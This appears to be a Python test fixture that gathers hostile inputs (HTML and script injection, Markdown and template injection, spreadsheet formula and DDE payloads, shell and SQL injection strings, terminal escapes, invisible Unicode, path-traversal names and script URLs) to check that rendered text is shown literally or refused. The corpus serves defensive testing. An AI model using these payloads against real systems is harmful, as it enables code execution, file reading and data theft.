r"""Texts that try to be more than text: the corpus that every way of showing data is held against.

Whatever runs leaves a mark that a test can look for: it sets ``window.hostile``, makes an element that `SELECTOR`
finds, or asks for something of `HOST`. A text is either shown letter by letter or refused, never anything between.

- ``SHOWN``: plain characters only. ``check`` lets them through, so each of them must be shown as text everywhere.
- ``FORMULAS``: what a spreadsheet would run. No table that we write for a spreadsheet may hold one as it stands.
- ``UNSEEN``: characters that steer a terminal, turn the writing or cannot be seen. ``check`` refuses them all.
- ``NAMES``: what must not do as an id, a file's name, a reporting period or a parameter.
- ``ADDRESSES``: what must not become a link.
"""

from __future__ import annotations

HOST = "hostile.example"
SELECTOR = (
    ".hostile, [id^=hostile], [name^=hostile], [data-hostile], [src*=hostile], [href*='//hostile'], "
    "[data*='//hostile'], [action*='//hostile'], [srcdoc], [href^=javascript i], [onerror], [onload], [onclick], "
    "[onfocus], [autofocus]"
)
"""Finds what a text has made in a page (CSS); text that is only shown makes nothing."""
SCRIPT_MARK = "window.hostile"
"""Is set as soon as any of the scripts runs (JavaScript)."""

HTML = {
    "script": "<script>window.hostile = 1</script>",
    "script from elsewhere": f'<script src="https://{HOST}/x.js"></script>',
    "script in capitals with a slash": "<ScRiPt/class=hostile>window.hostile = 1</sCrIpT >",
    "picture": '<img class="hostile" src=x onerror="window.hostile = 1">',
    "picture from elsewhere": f'<img src="https://{HOST}/x.png" alt="">',
    "vector picture": '<svg class="hostile" onload="window.hostile=1"><g/></svg>',
    "frame": '<iframe class="hostile" srcdoc="<script>parent.hostile = 1</script>"></iframe>',
    "object": f'<object class="hostile" data="https://{HOST}/x"></object><embed src="https://{HOST}/y">',
    "style": f'<style class="hostile">body {{ background: url(https://{HOST}/x) }}</style>',
    "style sheet": f'<link rel="stylesheet" class="hostile" href="https://{HOST}/x.css">',
    "new address": f'<meta class="hostile" http-equiv="refresh" content="0; url=https://{HOST}/">',
    "base": f'<base href="https://{HOST}/">',
    "form": f'<form class="hostile" action="https://{HOST}/"><input name="hostile" autofocus></form>',
    "folded": '<details class="hostile" open ontoggle="window.hostile = 1"><summary>x</summary></details>',
    "end of an attribute": '" class="hostile" autofocus onfocus="window.hostile = 1" x="',
    "end of an attribute, single": "' class='hostile' onmouseover='window.hostile = 1' x='",
    "end of the page": '</p></div></main></body></html><p class="hostile">',
    "end of a script": '</script><script class="hostile">window.hostile = 1</script>',
    "end of a comment": 'x --><b class="hostile">x</b><!--',
    "character data": '<![CDATA[<b class="hostile">x</b>]]>',
    "end of character data": ']]><b class="hostile">x</b>',
    "entities": "&lt;b class=&quot;hostile&quot;&gt;x&lt;/b&gt; &#60;script&#62; &amp;amp; &nbsp; &copy",
    "unfinished tag": "<b class=hostile x",
    "processing": '<?php echo 1 ?> <?xml version="1.0"?> <!DOCTYPE x [<!ENTITY y "z">]> &y; x',
}
MARKDOWN = {
    "emphasis": "**fet** _kursiv_ ~~struken~~ `kod` ***båda*** __under__",
    "link": f"[adress](https://{HOST}/) ![bild](https://{HOST}/x.png)",
    "script link": "[adress](javascript:window.hostile=1) [y]( <javascript:alert(1)> 'hostile')",
    "autolink": f"<https://{HOST}/> https://{HOST}/x www.{HOST} <hostile@{HOST}>",
    "reference": f"[hostile][1] [1]: https://{HOST}/ 'x' [^1] [^1]: fotnot",
    "heading": "# Rubrik ## Rubrik ======",
    "list": "* punkt - punkt 1. punkt 2) punkt - [/] gjort",
    "quotation": "> citat >> citat",
    "code": "``` kod ``` ~~~ kod ~~~",
    "rule": "*** --- ___",
    "table": "| a | b | |---|---| | 1 | 2 |",
    "backslash": r"\ \\ \* \<b class=hostile> \n \u003cb\u003e",
    "front matter": "title: hostile --- x: y ---",
    "dollar": r"$x$ $$\int$$ \(x\) \[x\] \begin{align} x \end{align}",
    "substitution": "{{ hostile }} {{ 7 * 7 }} |hostile| {{{x}}}",
    "attributes": "{.hostile #hostile onclick=x} text{.hostile}",
    "definition": "Ord : betydelse ~ Ord",
    "block break": "% kommentar (hostile)= +++ {'tags': ['hide-cell']}",
}
DIRECTIVES = {
    "include": "```{include} /etc/passwd ```",
    "include after colons": ":::{include} ../../data/datapackage.json :::",
    "literalinclude": "```{literalinclude} /etc/passwd ```",
    "raw": '```{raw} html <b class="hostile">x</b> ```',
    "eval-rst": "```{eval-rst} .. include:: /etc/passwd ```",
    "rst directive": '.. raw:: html <b class="hostile">x</b> .. include:: /etc/passwd',
    "download": "{download}`/etc/passwd` {download}`hostile <../data/datapackage.json>`",
    "figure": f"```{{figure}} https://{HOST}/x.png :name: hostile ```",
    "image": f"```{{image}} https://{HOST}/x.png :class: hostile ```",
    "csv-table": "```{csv-table} :file: /etc/passwd ```",
    "code-cell": "```{code-cell} python import os; os.environ ```",
    "raw role": '{raw-html}`<b class="hostile">x</b>` {raw}`html`',
    "reference role": "{ref}`hostile` {doc}`/hostile` {page-link}`x <javascript:window.hostile=1>`",
    "own roles": "{status}`done` {term}`hostile` {eval}`1+1` {math}`x` {abbr}`a (b)`",
    "own directives": ":::{downloads} hostile :csv: PGI+ ::: :::{section-id} hostile :::",
    "fence": "::::: ```` ~~~~ ::: {div} hostile",
    "rst role": ":ref:`hostile` :download:`/etc/passwd` `x <javascript:window.hostile=1>`_ |x|_ x_",
    "options": ":class: hostile :name: hostile :alt: x",
    "end of an option": '" :name: hostile "\' ]} :',
}
TEMPLATES = {
    "format": "{0} {} {self.__class__.__mro__} {x!r:>{y}}",
    "percent": "%s %d %n %(hostile)s %% %1$s %x%x%x",
    "jinja": "{% include '/etc/passwd' %} {{ config }} {{ ''.__class__.__mro__[1].__subclasses__() }} {# x #}",
    "docx template": "{%p for x in y %} {%tr if x %} {{r hostile }} {{p hostile }} {%tc x %}",
    "string template": "$hostile ${hostile} $$ $(touch hostile) `touch hostile`",
    "word": '</w:t></w:r></w:p><w:p><w:r><w:t>hostile</w:t></w:r></w:p> <w:instrText>INCLUDETEXT "/etc/passwd"',
    "word field": f'INCLUDEPICTURE "https://{HOST}/x.png" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe',
    "typst": '#read("/etc/passwd") #include "x.typ" #import "@preview/x:1.0.0" #eval("1") #image("x.png")',
    "typst brackets": "] #panic() [ *fet* _kursiv_ = Rubrik $x$ @hostile <hostile> // kommentar /* x */ \\u{41}",
    "rdf": f'"/><rdf:Description rdf:about="https://{HOST}/"><rdf:type rdf:resource="x"/> <!--',
    "turtle": f'""" . <https://{HOST}/> a <hostile> . """ \\" \\u0022',
    "json": '", "@id": "https://hostile.example/", "x": "\\", {"a": [1]} null',
    "yaml": "!!python/object/apply:os.system ['touch hostile'] : - ? & * ! | > ' \" % @ `",
    "csv": 'a","b";"c",d;e\'f""g',
    "shell": "; touch hostile | cat /etc/passwd && $(reboot) > x",
    "sql": "'); DROP TABLE measures; DELETE x --",
    "python": "__import__('os').system('touch hostile')",
    "regular expression": "(a+)+$ [[:alpha:]] \\1 .* (?i)",
    "latex": "\\input{/etc/passwd} \\write18{touch hostile} % & # _ ^ ~",
}
SHOWN: dict[str, str] = {**HTML, **MARKDOWN, **DIRECTIVES, **TEMPLATES}
"""Nothing here begins as a formula does; `check` lets these through in any text, so they are shown letter by letter."""

FORMULAS = {
    "equals": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "web": f'=WEBSERVICE("https://{HOST}/"&A1)',
    "link": f'=HYPERLINK("https://{HOST}/";"klicka")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "after a space": " =1+1",
    "after quotation": '"=1+1"',
    "after an apostrophe": "'=1+1",
    "after a semicolon": "ord;=1+1",
    "after a semicolon and a quotation mark": 'ord; "=1+1',
    "full width": "＝1+1",
    "full width at": "＠SUM(1)",
    "minus sign": "−1+1",
    "percent of a formula": "=1+1%",
    "dde": '=DDE("cmd";"/C calc";"x")',
    "dash before a word": "- punkt i en lista",
}
"""``minus sign`` and ``after an apostrophe`` are text to a spreadsheet; they may be shown or refused."""
HARMLESS_FORMULAS = ("minus sign", "after an apostrophe", "after quotation")

UNSEEN = {
    "escape sequence": "\x1b[31mröd\x1b[0m",
    "window title": "\x1b]0;hostile\x07",
    "clear the screen": "\x1b[2J\x1b[H",
    "link in a terminal": f"\x1b]8;;https://{HOST}/\x1b\\klicka\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;aG9zdGlsZQ==\x07",
    "one-byte control sequence": "x\x9b31mröd",
    "bell": "x\x07y",
    "backspace": "falskt\x08\x08\x08\x08\x08\x08sant",
    "carriage return": "sant\rfalskt",
    "line feed": "rad\nrad",
    "vertical tab": "rad\vrad",
    "form feed": "rad\frad",
    "tab": "cell\tcell",
    "tab before a formula": "\t=1+1",
    "return before a formula": "\r=1+1",
    "null": "x\x00y",
    "delete": "x\x7fy",
    "next line": "x\x85y",
    "line separator": "x\u2028y",
    "paragraph separator": "x\u2029y",
    "right to left override": "x\u202egpj.exe",
    "left to right embedding": "x\u202ay\u202c",
    "right to left embedding": "x\u202by\u202c",
    "isolate": "x\u2066y\u2069",
    "right to left isolate": "x\u2067y\u2069",
    "first strong isolate": "x\u2068y\u2069",
    "marks": "x\u200e\u200fy",
    "arabic letter mark": "x\u061cy",
    "zero-width space": "x\u200by",
    "zero-width non-joiner": "x\u200cy",
    "zero-width joiner": "x\u200dy",
    "word joiner": "x\u2060y",
    "byte order mark": "x\ufeffy",
    "soft hyphen": "x\u00ady",
    "combining grapheme joiner": "x\u034fy",
    "hangul filler": "x\u3164y",
    "mongolian vowel separator": "x\u180ey",
    "variation selector": "x\ufe0fy",
    "tag letters": "x\U000e0041\U000e0042y",
    "private use": "x\ue000y",
    "replacement character": "x\ufffdy",
    "non-character": "x\uffffy",
    "interlinear annotation": "x\ufff9y\ufffay\ufffb",
    "loose accents": "o\u0308o\u0308 z" + "\u0301" * 30,
    "wide space": "x\u3000y",
    "figure space outside": "\u2007x",
}
"""In a form's cell, the white space among them may be folded to one space, as people press Return in cells."""

NAMES = {
    "up": "../x",
    "up and up": "../../../../etc/passwd",
    "up, percent": "..%2f..%2fx",
    "up, backslash": "..\\x",
    "absolute": "/etc/passwd",
    "drive": "C:\\x",
    "share": "\\\\server\\x",
    "address": f"https://{HOST}/x",
    "dot": ".",
    "two dots": "..",
    "hidden": ".git",
    "device": "con",
    "device with an ending": "nul.csv",
    "device, numbered": "com1",
    "space": "a b",
    "space after": "a ",
    "empty": "",
    "option": "--project=/",
    "capitals": "A",
    "look-alike": "p\u043elisen",
    "not ASCII": "åtgärd",
    "quotation": 'a"b',
    "tag": "<b class=hostile>",
    "template": "{{x}}",
    "format": "{0}",
    "percent": "%s",
    "directive": "{include}",
    "escape sequence": "\x1b[2J",
    "line feed": "a\nb",
    "null": "a\x00b",
    "right to left override": "a\u202eb",
    "wildcard": "*",
    "pipe": "a|b",
    "long": "a" * 5000,
    "notebook of the trends": "trender",
}

ADDRESSES = {
    "script": "javascript:window.hostile=1",
    "script in capitals": "JaVaScRiPt:window.hostile=1",
    "script after a space": " javascript:window.hostile=1",
    "script with a tab": "java\tscript:window.hostile=1",
    "data": "data:text/html,<script>window.hostile=1</script>",
    "visual basic": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "without a scheme": f"//{HOST}/x",
    "backslashes": f"\\\\{HOST}\\x",
    "name before the host": f"https://www.linkoping.se@{HOST}/",
    "quotation": 'https://exempel.se/"onmouseover="window.hostile=1',
    "tag": 'https://exempel.se/><b class="hostile">',
    "space": "https://exempel.se/ x",
    "look-alike": "https://www.link\u043eping.se/",
    "right to left override": "https://exempel.se/\u202egpj.exe",
    "markdown": "https://exempel.se/)[hostile](javascript:window.hostile=1",
}
